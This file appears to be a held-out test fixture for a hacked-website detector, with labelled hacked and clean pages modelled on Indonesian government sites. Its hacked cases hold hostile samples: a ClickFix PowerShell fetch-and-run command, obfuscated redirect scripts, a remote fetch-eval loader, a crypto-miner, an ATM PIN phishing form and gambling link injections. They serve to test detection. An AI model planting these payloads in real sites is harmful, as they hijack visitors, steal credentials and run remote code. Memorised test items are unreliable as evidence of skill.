"""A fifth set held out: written after the rules had been made general for the fourth, judged once before a look."""

import base64
from collections.abc import Sequence

from tests.support.labelled.case import Case
from tests.support.labelled.fourth_frames import LEGIT_JS, adminlte, cards, elementor, joomla4, laravel, nextjs, opensid


def _case(hacked: bool, name: str, trick: str, body: str, **more: object) -> Case:
    return Case(f"fifth-{name}", trick, hacked, body, held_out=True, **more)  # type: ignore[arg-type]


def _bad(name: str, trick: str, body: str, **more: object) -> Case:
    return _case(True, name, trick, body, **more)


def _ok(name: str, trick: str, body: str, **more: object) -> Case:
    return _case(False, name, trick, body, **more)


def _p(*texts: str) -> str:
    return "".join(f"<p>{text}</p>" for text in texts)


_HOME = laravel("Dinas Perhubungan Provinsi")
_XOR = ",".join(str(ord(char) ^ 7) for char in "location.href='https://raja-hoki.cfd/'")

_HACKED = [
    _bad(
        "title-nodigit",
        "title swap",
        elementor(
            "MEGAHOKI » Portal Permainan Daring Nomor Satu Se-Asia, Pasti Bayar",
            head='<meta name="description" content="MEGAHOKI adalah bandar permainan daring dengan ribuan pilihan mesin ketangkasan, minimal setor 10 ribu, pasti bayar berapa pun kemenangan Anda.">',
        ),
    ),
    _bad(
        "hid-vvip",
        "hidden div",
        joomla4(
            "Bagian Hukum Setda",
            foot='<div style="width:1px;height:1px;overflow:hidden;position:absolute">'
            + "".join(
                f'<a href="https://arsipku.biz.tr/{n}">{t}</a>'
                for n, t in enumerate(
                    ("spaceman x500", "akun vvip sultan", "bocoran admin riki", "gatotkaca scatter", "jam gacor subuh")
                )
            )
            + "</div>",
        ),
    ),
    _bad(
        "hid-noscript-thai",
        "hidden div",
        laravel(
            "Bagian Umum",
            foot="<noscript><a href='https://ufa.games.th'>เกมคาสิโนออนไลน์ อันดับ 1</a> <a href='https://dee.games'>เดิมพันขั้นต่ำ 1 บาท</a></noscript>",
        ),
    ),
    _bad(
        "hid-filter",
        "hidden div",
        elementor(
            "Dinas Perkim",
            foot='<div style="filter:opacity(0);position:absolute"><a href="https://kartu-sakti.rest">domino qiu qiu uang asli</a><a href="https://remi.monster">ceme keliling</a><a href="https://gaple.quest">capsa susun online</a></div>',
        ),
    ),
    _bad(
        "inline-links",
        "link farm",
        elementor(
            "Manfaat ASI Eksklusif",
            "<h1>Manfaat ASI Eksklusif</h1><p>ASI mengandung <a href='https://dumaipos.site/' style='color:inherit;text-decoration:none;cursor:text'>rtp slot</a> antibodi. Ibu <a href='https://medanbet.site/' style='color:inherit;text-decoration:none;cursor:text'>judi bola</a> menyusui perlu gizi <a href='https://pasar4d.icu' style='color:inherit;text-decoration:none'>togel</a> seimbang.</p>",
        ),
    ),
    _bad(
        "sabong",
        "SEO doorway",
        laravel(
            "Sabong Online Philippines – Bet on Cockfighting Live Now",
            "<h1>Sabong Online Philippines</h1><p>Play e-sabong and online casino games, cash in with GCash, get 100% welcome bonus.</p><a href='https://sabong.ph.win'>Register</a>",
        ),
    ),
    _bad(
        "german",
        "hidden div",
        joomla4(
            "Bagian Organisasi",
            foot='<div style="display:none"><a href="https://spielen-heute.com">beste online casinos deutschland</a><a href="https://freispiele24.net">freispiele ohne einzahlung</a><a href="https://wettbonus.eu">sportwetten bonus</a></div>',
        ),
    ),
    _bad(
        "french",
        "hidden div",
        elementor(
            "Kecamatan Kemuning",
            foot='<p style="position:absolute;top:-9999px"><a href="https://casinofrance1.com">casino en ligne fiable</a> <a href="https://paris-en-ligne.net">paris sportifs</a></p>',
        ),
    ),
    _bad(
        "hindi",
        "title swap",
        elementor("ऑनलाइन सट्टा मटका रिजल्ट – कैसीनो गेम", head='<link rel="canonical" href="https://satta-king.in.net/">'),
    ),
    _bad(
        "srcdoc",
        "iframe",
        laravel(
            "Portal PPID",
            foot='<iframe style="border:0;position:fixed;top:0;left:0;width:100%;height:100%;z-index:2147483647" srcdoc="&lt;h1&gt;GAS WD TERUS&lt;/h1&gt;&lt;a href=&quot;https://wd-terus.fun&quot;&gt;daftar slot bonus 100&lt;/a&gt;"></iframe>',
        ),
    ),
    _bad(
        "js-xor",
        "injected JS",
        elementor(
            "Setwan",
            foot=f"<script>(function(){{var a=[{_XOR}],s='';for(var i=0;i<a.length;i++)s+=String.fromCharCode(a[i]^7);new Function(s)()}})();</script>",
        ),
    ),
    _bad(
        "js-data-src",
        "injected JS",
        joomla4(
            "Dinas PMD",
            head=f'<script src="data:text/javascript;base64,{base64.b64encode(b"if(document.referrer.match(/google/))location.replace(" + bytes([39]) + b"https://panen-hoki.sbs" + bytes([39]) + b")").decode()}"></script>',
        ),
    ),
    _bad(
        "js-fetch-eval",
        "injected JS",
        laravel(
            "Bakesbangpol",
            foot="<script>fetch('https://api.jquery-min.cyou/v2?h='+location.host).then(r=>r.text()).then(eval)</script>",
        ),
    ),
    _bad(
        "body-onload",
        "redirect",
        "<html><head><title>Beranda</title></head><body onload=\"location='https://cuanbesar.quest/'\"><p>Memuat...</p></body></html>",
    ),
    _bad(
        "svg-onload",
        "redirect",
        elementor(
            "Dinas Kebersihan",
            foot="<svg onload=\"setTimeout(function(){window.location='https://pola-hari-ini.sbs/'},900)\"></svg>",
        ),
    ),
    _bad(
        "back-hijack",
        "injected JS",
        elementor(
            "Dinas Koperasi",
            foot="<script>history.pushState(null,null,location.href);window.onpopstate=function(){location.href='https://hoki-sultan.cfd/b'};</script>",
        ),
    ),
    _bad(
        "sitemap-foreign",
        "sitemap spam",
        _HOME,
        paths={
            "/sitemap.xml": "<?xml version='1.0'?><sitemapindex>"
            + "".join(f"<sitemap><loc>https://idx{n}.menangterus.sbs/map.xml</loc></sitemap>" for n in range(6))
            + "</sitemapindex>"
        },
    ),
    _bad(
        "sitemap-brand",
        "sitemap spam",
        _HOME,
        paths={
            "/sitemap.xml": "<urlset>"
            + "".join(
                f"<url><loc>https://dinkes.sumselprov.go.id/{b}/</loc></url>"
                for b in (
                    "sultan88",
                    "angkasa138",
                    "rajawali77",
                    "merpati303",
                    "cendana4d",
                    "macau-prize",
                    "hk-lotto",
                    "sydney-live-draw",
                )
            )
            + "</urlset>"
        },
    ),
    _bad(
        "cloak-id",
        "cloaking",
        _HOME,
        crawled="<html><title>Info</title><body>Mengalihkan</body></html>",
        crawled_url="https://www.toko-hoki303.id/",
    ),
    _bad(
        "cloak-english",
        "cloaking",
        _HOME,
        crawled="<html lang=en><head><title>Cheap Nike Air Max Shoes Outlet Store</title></head><body><h1>Nike Air Max Outlet</h1>"
        + _p(
            *(
                "Free shipping on all orders, discount sneakers, men and women sizes in stock, add to cart now."
                for _ in range(4)
            )
        )
        + "</body></html>",
    ),
    _bad(
        "def-dialect",
        "full deface",
        "<html><head><title>oi min</title></head><body bgcolor=#000 text=red><center><h1>Oi min, webnyo bolong nian</h1><p>Kami la masuk, dak ado yang dirusak. Benerin yo.</p><p>~ Budak Musi Cyber ~</p></center></body></html>",
    ),
    _bad(
        "def-ransom",
        "full deface",
        "<html><head><title>READ ME</title></head><body style='background:black;color:red'><h1>All your files have been encrypted</h1><p>Your database has been stolen. Pay 0.5 BTC to the wallet below or it will be leaked. Contact: dark@onionmail.org</p></body></html>",
    ),
    _bad(
        "def-love",
        "full deface",
        "<html><head><title>Hacked with love</title></head><body style='background:#000'><center><img src='https://i.imgur.com/heart.gif'><h2>Will you marry me, Putri?</h2><p>hacked by pacarmu &lt;3</p></center></body></html>",
    ),
    _bad(
        "def-ascii",
        "full deface",
        "<html><body bgcolor=black><pre style='color:lime'>  ____\n / ___| pwned\n \\___ \\\n  r00t@server:~# whoami\n  TenguSec was here\n  no data deleted, only index</pre></body></html>",
    ),
    _bad(
        "def-spanish",
        "full deface",
        "<html><head><title>Hackeado</title></head><body style='background:#000;color:#fff'><h1>Sitio hackeado por Los Chacales</h1><p>Su seguridad es una broma.</p></body></html>",
    ),
    _bad(
        "def-pak",
        "full deface",
        "<html><head><title>System Down</title></head><body bgcolor=black><center><font color=green><h1>Team Insane Eagles</h1><p>Long live Kashmir! Your cyber space is ours.</p><iframe width=0 height=0 src='https://www.youtube.com/embed/x?autoplay=1'></iframe></font></center></body></html>",
    ),
    _bad(
        "def-announce",
        "full deface",
        opensid(
            "Desa Tanjung Batu",
            "<h2>PENGUMUMAN</h2><p>Halo admin, website ini kami ambil alih sementara. Database sudah kami unduh. Silakan hubungi kami lewat Telegram bila ingin tahu celahnya.</p>",
        ),
    ),
    _bad(
        "phish-bpjs",
        "form phishing",
        elementor(
            "Bantuan Subsidi Upah",
            "<form method=post action='/wp-includes/fonts/s.php'><input name=nama placeholder='Nama lengkap'><input name=kartu placeholder='Nomor kartu ATM 16 digit'><input name=saldo placeholder='Saldo terakhir'><input name=pinatm type=password placeholder='PIN ATM'></form>",
        ),
    ),
    _bad(
        "apk",
        "form phishing",
        "<html><head><title>Surat Tilang Elektronik</title></head><body><h1>Surat Tilang ETLE</h1><p>Unduh surat tilang Anda untuk melihat pelanggaran.</p><a href='https://files-etle.top/SURAT-TILANG.apk'>LIHAT SURAT TILANG</a></body></html>",
    ),
    _bad(
        "clickfix",
        "injected JS",
        elementor(
            "Dinas Kehutanan",
            foot="<div style='position:fixed;inset:0;background:#fff;z-index:99999'><h3>Verify you are human</h3><p>Press Windows + R, then CTRL + V and press Enter</p></div><script>navigator.clipboard.writeText('powershell -w hidden -c \"iwr https://cf-verify.cyou/a.ps1|iex\"')</script>",
        ),
    ),
    _bad(
        "miner",
        "injected JS",
        joomla4(
            "Dinas Transmigrasi",
            foot="<script src='https://coinhive.com/lib/coinhive.min.js'></script><script>var m=new CoinHive.Anonymous('kEy');m.start();</script>",
        ),
    ),
    _bad(
        "cytotec-city",
        "SEO doorway",
        elementor(
            "Jual Cytotec Palembang 0822-xxxx Obat Telat Datang Bulan Ampuh",
            "<h1>Apotek Obat Telat Bulan</h1><p>Kami melayani COD, obat penggugur janin tuntas 2 jam.</p>",
        ),
    ),
    _bad(
        "stream-bola",
        "SEO doorway",
        laravel(
            "[LIVE] Nonton Streaming Indonesia vs Jepang Gratis Tanpa Iklan",
            "<h1>Klik tombol untuk menonton</h1><a href='https://bola-gratis.lol/watch'><img src='https://i.ibb.co/play.png' alt='PLAY HD'></a><p>Server 1 | Server 2 | Yalla Shoot | Score808</p>",
        ),
    ),
    _bad(
        "search-spam",
        "SEO doorway",
        elementor(
            "Anda mencari situs slot server kamboja gacor 2025 daftar di gampangwd.cc – Dinas Kominfo",
            "<h1>Hasil pencarian untuk: situs slot server kamboja gacor 2025 daftar di gampangwd.cc</h1><p>Tidak ditemukan.</p>",
        ),
    ),
    _bad(
        "woo-products",
        "link farm",
        elementor(
            "Toko UMKM",
            "".join(
                f"<li class='product'><a href='/produk/{n}'><h2>{t}</h2></a><span>Rp5.000</span></li>"
                for n, t in enumerate(
                    (
                        "Akun Slot Server Jepang",
                        "Slot Deposit Dana 5000",
                        "Toto Togel 4D Hongkong",
                        "Demo Pragmatic Olympus 1000",
                        "Link Alternatif Sbobet",
                    )
                )
            ),
        ),
    ),
]

_CLEAN = [
    _ok(
        "csirt-letter",
        "security advisory",
        laravel(
            "Surat Edaran kepada Admin Website OPD",
            _p(
                "Kepada admin website OPD, mohon segera perbarui plugin. Beberapa situs telah diretas lewat celah unggah berkas.",
                "Tutup celah, perbaiki izin folder, dan laporkan insiden ke CSIRT. Salam, Tim Keamanan Siber Diskominfo.",
            ),
        ),
    ),
    _ok(
        "apology",
        "security advisory",
        elementor(
            "Permohonan Maaf atas Gangguan Website",
            _p(
                "Kami mohon maaf, website dinas sempat diretas pihak tidak bertanggung jawab pada Sabtu malam. Tidak ada data yang dicuri. Kami sudah memperbaiki celah tersebut."
            ),
        ),
    ),
    _ok(
        "pentest",
        "security advisory",
        joomla4(
            "Juknis Pengujian Kerentanan",
            _p(
                "Tim kami masuk ke sistem uji dengan izin tertulis pemilik, mencari celah, lalu melaporkan kepada pengelola untuk diperbaiki."
            ),
        ),
    ),
    _ok(
        "anti-korupsi",
        "political",
        elementor(
            "Inspektorat: Lawan Korupsi, Tegakkan Keadilan",
            '<section style="background:#000;color:#fff"><h1>Rakyat Sejahtera Tanpa Korupsi</h1><p>Laporkan gratifikasi melalui WBS.</p></section>',
        ),
    ),
    _ok(
        "dark-portal",
        "image only",
        '<html><head><title>Portal Layanan</title></head><body style="background:#000"><h1>MERDEKA! Dirgahayu RI ke-80</h1><p>Rakyat bersatu, Indonesia maju</p><a href="https://layanan.sumselprov.go.id"><img src="/masuk.png" alt="Masuk"></a></body></html>',
    ),
    _ok(
        "server-sop",
        "security advisory",
        laravel(
            "SOP Pengelolaan Server",
            "<form action='/cari'><input name=q placeholder='Cari dokumen'></form>"
            + _p(
                "Jalankan chmod 640 pada berkas konfigurasi milik www-data di /var/www. Catat hasil uname -a dan versi PHP. Nonaktifkan fungsi exec (disable_functions) dan hapus web shell bila ditemukan."
            )
            + cards(),
        ),
    ),
    _ok(
        "domain-expired",
        "plain",
        elementor(
            "Tata Cara Perpanjangan Domain go.id",
            _p(
                "Masa aktif domain desa.id satu tahun. Domain yang habis masa berlakunya akan ditangguhkan. Ajukan perpanjangan melalui PANDI."
            ),
        ),
    ),
    _ok(
        "tax-pay",
        "login page",
        laravel(
            "Pembayaran PBB Online",
            "<form action='https://pay.bapenda.sumselprov.go.id/bayar' method=post><input name=nop placeholder='NOP'><input name=hp placeholder='Nomor HP'><input name=otp placeholder='Kode OTP'><button>Bayar dengan QRIS</button></form>",
        ),
    ),
    _ok(
        "pin-absen",
        "login page",
        '<html><head><title>E-Absensi</title></head><body><form action="/login" method=post><input name=nip placeholder=NIP><input name=pin type=password placeholder="PIN absensi"></form></body></html>',
    ),
    _ok(
        "gas-form",
        "inline scripts",
        elementor(
            "Survei Kepuasan Masyarakat",
            "<form id=f><input name=nama><textarea name=saran></textarea></form>",
            foot="<script>const u='https://script.google.com/macros/s/AKfy/exec';fetch(u,{method:'POST',body:new FormData(document.forms[0])})</script>",
        ),
    ),
    _ok(
        "bot-aduan",
        "inline scripts",
        laravel(
            "Form Aduan",
            "<form><input name=nama placeholder=Nama><textarea name=aduan></textarea></form>",
            foot="<script>function kirim(t){return fetch('https://api.telegram.org/bot99:XX/sendMessage?chat_id=7&text='+encodeURIComponent(t))}</script>",
        ),
    ),
    _ok(
        "hidden-media",
        "hidden but honest",
        elementor(
            "Portal Berita Pemda",
            foot='<div class="mobile-menu" style="display:none">'
            + "".join(
                f'<a href="https://{h}">{h}</a>'
                for h in (
                    "www.sripoku.com",
                    "palembang.tribunnews.com",
                    "sumselupdate.com",
                    "kabarsumatera.com",
                    "beritapagi.com",
                    "detik.com",
                )
            )
            + "</div>",
        ),
    ),
    _ok(
        "slick",
        "hidden but honest",
        laravel(
            "Mitra Kami",
            '<div class="slick-track" style="opacity:1;width:9000px;transform:translate3d(-1170px,0px,0px)">'
            + "".join(
                f'<a href="https://www.{h}"><img src="/m/{h}.png" alt="{h}"></a>'
                for h in ("pertamina.com", "pusri.co.id", "ptba.co.id", "semenbaturaja.com", "unicef.org")
            )
            + "</div>",
        ),
    ),
    _ok(
        "siap99",
        "homonyms",
        elementor(
            "Aplikasi SIAP99: Daftar, Login, dan Panduan",
            _p(
                "Masyarakat dapat daftar akun SIAP99 lalu login dengan NIK. Link unduhan resmi ada di Play Store. Hubungi PSC119 atau Palembang112 untuk darurat."
            ),
        ),
    ),
    _ok(
        "gacor-inovasi",
        "homonyms",
        laravel(
            "GACOR: Gerakan Cepat Orang Rentan",
            _p("Inovasi puskesmas GACOR meraih TOP 45 pelayanan publik. Daftar layanan GACOR melalui kader."),
        ),
    ),
    _ok(
        "gacor-bola",
        "homonyms",
        elementor(
            "Striker Muda Muba Tampil Gacor, Cetak Lima Gol di Liga 3",
            _p("Penampilan gacor sang striker membuat pelatih sumringah. Tim menang 5-1."),
        ),
    ),
    _ok(
        "formularium",
        "homonyms",
        adminlte(
            "Formularium RSUD",
            "<table>"
            + "".join(
                f"<tr><td>{o}</td><td>tablet</td></tr>"
                for o in (
                    "Sildenafil 50 mg",
                    "Misoprostol (Cytotec) 200 mcg",
                    "Tramadol 50 mg",
                    "Alprazolam",
                    "Ivermectin 12 mg",
                    "Tadalafil",
                )
            )
            + "</table>",
        ),
    ),
    _ok(
        "airdrop",
        "homonyms",
        elementor(
            "BNPB Airdrop Bantuan Logistik ke Desa Terisolasi",
            _p("Helikopter melakukan airdrop 2 ton logistik. Bantuan langsung cair untuk korban banjir bandang."),
        ),
    ),
    _ok(
        "openbo",
        "news on scams",
        joomla4(
            "Satpol PP Razia Open BO di Hotel Melati",
            _p("Enam pasangan terjaring. Pelaku menawarkan diri lewat MiChat."),
        ),
    ),
    _ok(
        "film-fest",
        "homonyms",
        elementor(
            "Festival Film Sriwijaya: Nonton Film Pendek Gratis",
            _p("Streaming film peserta dapat ditonton di kanal YouTube. Full movie pemenang diputar di taman budaya."),
        ),
    ),
    _ok(
        "mahjong-lansia",
        "homonyms",
        laravel(
            "Komunitas Mahjong Lansia Gelar Turnamen Persahabatan",
            _p("Permainan mahjong dan catur gajah melatih daya ingat. Tidak ada taruhan uang."),
        ),
    ),
    _ok(
        "jepang",
        "foreign language",
        elementor(
            "Pelatihan Bahasa Jepang untuk Calon Magang",
            _p("Peserta belajar sapaan こんにちは, ありがとう dan kosakata belanja seperti 新品 dan 割引."),
        ),
    ),
    _ok(
        "china-visit",
        "foreign language",
        laravel("Kunjungan Delegasi Guangxi 广西代表团访问", _p("Delegasi 广西 meninjau pelabuhan Tanjung Carat.")),
    ),
    _ok(
        "ojs",
        "foreign language",
        elementor(
            "Jurnal Ilmiah Pertanian Vol 8",
            _p(
                "Иванов П., Nguyễn Văn Tài, 王伟. Effects of fertilizer on paddy yield. Odds and risk analysis of slot-tillage method.",
                "Abstract: slot planting increases yield by 12 percent.",
            ),
        ),
    ),
    _ok(
        "click-lapor",
        "inline scripts",
        elementor(
            "LAPOR",
            foot="<script>jQuery(document).on('click','.btn-lapor',function(){window.open('https://www.lapor.go.id','_blank')});document.getElementById('popup').style.display='none';</script><div id='popup'><img src='/popup.jpg' alt='Maklumat Pelayanan'></div>",
        ),
    ),
    _ok(
        "challenge",
        "crawled",
        _HOME,
        crawled="<html><head><title>Just a moment...</title><meta http-equiv='refresh' content='390'></head><body><noscript>Enable JavaScript and cookies to continue</noscript><script>window._cf_chl_opt={cvId:'3'};var a=document.createElement('script');a.src='/cdn-cgi/challenge-platform/h/b/orchestrate/chl_page/v1';document.head.appendChild(a);</script></body></html>",
    ),
    _ok(
        "crawl-english",
        "crawled",
        _HOME,
        crawled=laravel(
            "Department of Transportation",
            cards(
                (
                    "Governor Inspects New Bus Terminal",
                    "River Ferry Schedule Updated",
                    "Road Safety Week Opens",
                    "Public Hearing on Parking Fees",
                )
            ),
        ),
    ),
    _ok(
        "links-only",
        "plain",
        '<html><head><title>Layanan Satu Pintu</title></head><body style="background:#0a0a0a">'
        + "".join(
            f'<a class="btn" href="https://{h}.palembang.go.id">{h}</a>'
            for h in ("epbb", "sipd", "simbg", "oss", "ppdb")
        )
        + "</body></html>",
    ),
    _ok(
        "qanun",
        "law",
        joomla4(
            "Qanun Jinayat tentang Maisir",
            _p(
                "Setiap orang yang dengan sengaja melakukan jarimah maisir dengan nilai taruhan paling banyak 2 gram emas diancam uqubat cambuk paling banyak 12 kali."
            ),
        ),
    ),
    _ok(
        "next-judol",
        "news on gambling",
        nextjs(
            "Gubernur Instruksikan ASN Teken Pakta Anti Judi Online",
            _p(
                "ASN yang terbukti bermain slot dan togel diberi sanksi berat. Inspektorat memeriksa transaksi deposit di 12 OPD."
            ),
        ),
    ),
    _ok(
        "ads-judol-edu",
        "news on gambling",
        opensid(
            "Kenali Ciri Iklan Judi Online",
            _p(
                "Iklan judi memakai kata-kata: gacor, maxwin, scatter, depo 10 bonus 10, link alternatif, garansi kekalahan. Jangan klik!"
            ),
        ),
    ),
    _ok(
        "svg-splash",
        "image only",
        '<html><head><title>Smart City</title></head><body style="background:#111"><svg width="100%" height="100%"><image href="/bg.svg"/></svg><a href="/home">Mulai</a></body></html>',
    ),
    _ok(
        "big-js",
        "inline scripts",
        nextjs(
            "Dashboard Covid",
            foot=f"<script>{LEGIT_JS}var t=[104,116,116,112,115,58,47,47,99,100,110].map(function(c){{return String.fromCharCode(c)}}).join('');eval('0');</script>",
        ),
    ),
    _ok(
        "umkm-hoki",
        "foreign links",
        elementor(
            "Produk UMKM: Kerupuk Hoki88, Kopi Jackpot, Sambal Maxwin Pedasnya",
            _p("Daftar produk UMKM binaan. Diskon bulan ini, pesan lewat WhatsApp. Bonus gantungan kunci."),
        ),
    ),
    _ok(
        "lotre-sejarah",
        "homonyms",
        laravel(
            "Arsip: Sejarah SDSB dan Porkas di Indonesia",
            _p(
                "Pada 1985 pemerintah mengedarkan kupon Porkas, undian berhadiah olahraga. Kupon SDSB dihentikan 1993 setelah protes mahasiswa."
            ),
        ),
    ),
]

CASES: Sequence[Case] = [*_HACKED, *_CLEAN]
